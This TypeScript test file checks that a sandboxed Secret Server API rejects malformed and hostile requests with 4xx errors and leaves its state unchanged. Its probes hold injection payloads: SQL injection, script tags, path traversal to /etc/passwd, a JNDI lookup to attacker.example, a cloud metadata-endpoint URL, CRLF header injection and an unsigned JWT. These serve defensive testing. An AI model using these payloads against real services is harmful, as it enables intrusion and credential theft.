import * as assert from 'node:assert/strict';
import { startSandboxProcess, type SandboxHandle } from '../support/sandboxProcess';
import { activeHsmUri, health, hsmBody, login, seededSettings, ssCall, typeId, user } from './secretServer.support';

// Malformed and hostile input — wrong types, huge bodies, missing fields, injection-looking
// strings — sent to every part of the Secret Server surface. Each must get a 4xx body in the
// server's own shape, and none may change anything.

interface Probe {
  name: string;
  method: string;
  path: string;
  body?: unknown;
  headers?: Record<string, string>;
  token?: 'admin' | 'helpdesk' | 'none';
}

const injections = [
  "'; DROP TABLE tbSecret; --",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '%00%0d%0aSet-Cookie: x=1',
  '\u202eevil',
  'A'.repeat(3000),
];

describe('sandbox: Secret Server against malformed and hostile input', function () {
  let h: SandboxHandle;
  let admin: string;
  let helpdesk: string;
  let hsmId: number;

  before(async () => {
    h = await startSandboxProcess(['--secrets', '10']);
    admin = (await login(h, user(h, 'admin'))).accessToken;
    helpdesk = (await login(h, user(h, 'noPermission'))).accessToken;
    hsmId = await typeId(h, admin, 'AzureManagedHsm');
  });

  after(async () => {
    await h?.stop();
  });

  function probes(): Probe[] {
    const hsm = activeHsmUri(h);
    const good = hsmBody(hsmId, seededSettings(h));
    const list: Probe[] = [];
    const put = (name: string, body: unknown, headers?: Record<string, string>) => list.push({ name: `PUT key-management: ${name}`, method: 'PUT', path: '/api/v1/key-management', body, headers });

    // Bodies that are not a JSON object.
    for (const raw of ['', '{', 'null', '[]', '"text"', '123', 'true', '{"keyManagementTypeId":', '<xml/>', 'keyManagementTypeId=3', '\u0000\u0001']) put(`raw ${JSON.stringify(raw.slice(0, 20))}`, raw);
    put('2 MB body', JSON.stringify({ ...good, padding: 'x'.repeat(2 * 1024 * 1024) }));
    put('deeply nested JSON', `${'['.repeat(200_000)}${']'.repeat(200_000)}`);
    // The type id with the wrong type or an unknown value.
    for (const id of [String(hsmId), null, true, [], {}, 3.7, -1, 1e308, '0x3', 'AzureManagedHsm']) put(`keyManagementTypeId ${JSON.stringify(id)}`, { ...good, keyManagementTypeId: id });
    // Every Managed HSM field with the wrong type, or missing.
    for (const field of ['azureManagedHsmTenantId', 'azureManagedHsmPrincipalId', 'azureManagedHsmPrincipalSecret', 'azureManagedHsmKeyUrl']) {
      for (const value of [123, true, {}, ['x']]) put(`${field} = ${JSON.stringify(value)}`, { ...good, [field]: value });
      put(`${field} missing`, { ...good, [field]: undefined });
      put(`${field} too long`, { ...good, [field]: 'x'.repeat(5000) });
    }
    // Injection-looking strings in each text field.
    for (const text of injections) {
      put(`tenant ${text.slice(0, 16)}`, { ...good, azureManagedHsmTenantId: text });
      put(`principal ${text.slice(0, 16)}`, { ...good, azureManagedHsmPrincipalId: text });
      put(`key URL ${text.slice(0, 16)}`, { ...good, azureManagedHsmKeyUrl: text });
    }
    put('principal secret SQL', { ...good, azureManagedHsmPrincipalSecret: "' OR 1=1 --" });
    put('CRLF in key URL', { ...good, azureManagedHsmKeyUrl: `${hsm}keys/secret-server-key\r\nX-Injected: 1` });
    for (const url of [
      `${hsm}keys/secret-server-key/../../../_sandbox/clock`,
      `${hsm}keys/%2e%2e/%2e%2e/_sandbox`,
      'javascript:alert(1)',
      'file:///etc/passwd',
      'https://169.254.169.254/metadata/identity/oauth2/token',
      `https://user:pass@${new URL(hsm).host}/keys/secret-server-key`,
      `${hsm}keys/secret-server-key#fragment`,
      'https://attacker.example/keys/secret-server-key',
      `${hsm}keys/secret server key`,
      `${hsm}keys`,
    ]) put(`key URL ${url.slice(0, 40)}`, { ...good, azureManagedHsmKeyUrl: url });
    put('as the user without the permission', good);
    list[list.length - 1].token = 'helpdesk';
    put('without a token', good);
    list[list.length - 1].token = 'none';

    // The token endpoint.
    const token = (name: string, body: string, headers: Record<string, string> = { 'content-type': 'application/x-www-form-urlencoded' }) =>
      list.push({ name: `token: ${name}`, method: 'POST', path: '/oauth2/token', body, headers, token: 'none' });
    token('JSON instead of a form', JSON.stringify({ grant_type: 'password', username: 'ssadmin', password: 'x' }), { 'content-type': 'application/json' });
    token('empty form', '');
    token('no grant type', 'username=ssadmin&password=x');
    token('unknown grant type', 'grant_type=authorization_code&code=abc');
    token('password grant without username', 'grant_type=password&password=x');
    token('huge username', `grant_type=password&username=${'a'.repeat(5000)}&password=x`);
    for (const text of injections.slice(0, 5)) token(`username ${text.slice(0, 16)}`, new URLSearchParams({ grant_type: 'password', username: text, password: text }).toString());
    token('refresh token garbage', 'grant_type=refresh_token&refresh_token=garbage');
    token('refresh token huge', `grant_type=refresh_token&refresh_token=${'r'.repeat(4000)}`);
    token('refresh token missing', 'grant_type=refresh_token');
    const officer = user(h, 'twoFactor');
    for (const otp of ['', 'abcdef', '12345', '1234567', "' OR 1=1"]) {
      list.push({ name: `token: OTP ${JSON.stringify(otp)}`, method: 'POST', path: '/oauth2/token', token: 'none', body: new URLSearchParams({ grant_type: 'password', username: officer.username, password: officer.password }).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded', otp } });
    }

    // Read-only mode.
    for (const body of ['', 'nope', {}, { data: null }, { data: [] }, { data: { enabled: true } }, { data: { enabled: { dirty: 'yes', value: true } } }, { data: { enabled: { dirty: true, value: 'true' } } }, { data: { enabled: { dirty: true } } }, { data: { enabled: [] } }]) {
      list.push({ name: `read-only ${JSON.stringify(body)}`, method: 'PATCH', path: '/api/v1/configuration/read-only-mode', body });
    }

    // Query strings and path parameters.
    for (const q of ['skip=-1', 'skip=abc', 'take=0', 'take=99999', 'take=1.5', 'sortBy[0].name=DROP%20TABLE', 'sortBy[0].direction=up', 'sortBy[0].priority=x', `filter.searchText=${'s'.repeat(300)}`, 'skip=99999999999']) {
      list.push({ name: `audit ?${q.slice(0, 30)}`, method: 'GET', path: `/api/v1/key-management/config/audit?${q}` });
    }
    for (const path of ['/api/v1/secrets/abc', '/api/v1/secrets/-1', '/api/v1/secrets/99999', '/api/v1/secrets/1/fields/nope', "/api/v1/secrets/1'%20OR%201=1", '/api/v1/secrets?take=-5', '/api/v1/nodes/abc', '/api/v1/nodes/7', '/api/v1/secrets/1/fields/%3Cscript%3E']) {
      list.push({ name: `GET ${path}`, method: 'GET', path });
    }

    // Authentication and routing.
    for (const auth of ['Bearer garbage', 'Basic c3NhZG1pbjpwYXNz', 'Bearer ', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', 'Bearer ' + 'x'.repeat(4000)]) {
      list.push({ name: `auth ${auth.slice(0, 20)}`, method: 'GET', path: '/api/v1/key-management', headers: { authorization: auth }, token: 'none' });
    }
    for (const [method, path] of [
      ['GET', '/api/v1/nope'],
      ['GET', '/api/v2/key-management'],
      ['DELETE', '/api/v1/key-management'],
      ['POST', '/api/v1/key-management'],
      ['GET', '/oauth2/token'],
      ['PUT', '/api/v1/healthcheck'],
      ['GET', '/api/v1/configuration/security/rotate-secret-keys'],
      ['DELETE', '/api/v1/secrets/1'],
    ]) list.push({ name: `${method} ${path}`, method, path });
    return list;
  }

  it('answers at least 100 malformed or hostile requests with a 4xx body and changes nothing', async () => {
    const all = probes();
    assert.ok(all.length >= 100, `${all.length} probes`);
    const before = await h.digest();
    for (const probe of all) {
      const token = probe.token === 'none' ? undefined : probe.token === 'helpdesk' ? helpdesk : admin;
      const res = await ssCall(h, probe.method, probe.path, token, probe.body, probe.headers);
      assert.ok(res.status >= 400 && res.status < 500, `${probe.name}: ${res.status} ${res.text.slice(0, 200)}`);
      const body = res.body as Record<string, unknown>;
      assert.equal(typeof body, 'object', `${probe.name}: a JSON body`);
      assert.ok(typeof body.message === 'string' || typeof body.error === 'string', `${probe.name}: ${res.text.slice(0, 200)}`);
      if (res.status === 400 && probe.path.startsWith('/api/')) {
        assert.deepEqual(Object.keys(body).sort(), ['errorCode', 'message', 'messageDetail', 'modelState'], probe.name);
      }
      if (res.status === 401 || res.status === 403) assert.deepEqual(Object.keys(body), ['message'], probe.name);
      assert.ok(!res.text.includes(h.endpoints.expiringApp.clientSecret), `${probe.name}: no secret echoed`);
    }
    assert.equal(await h.digest(), before, 'the state is exactly as before');
    const hc = await health(h);
    assert.equal(hc.healthy, true);
    assert.equal(hc.readOnlyMode, false);
    assert.equal((await ssCall(h, 'GET', '/api/v1/key-management', admin)).status, 200);
  });
});
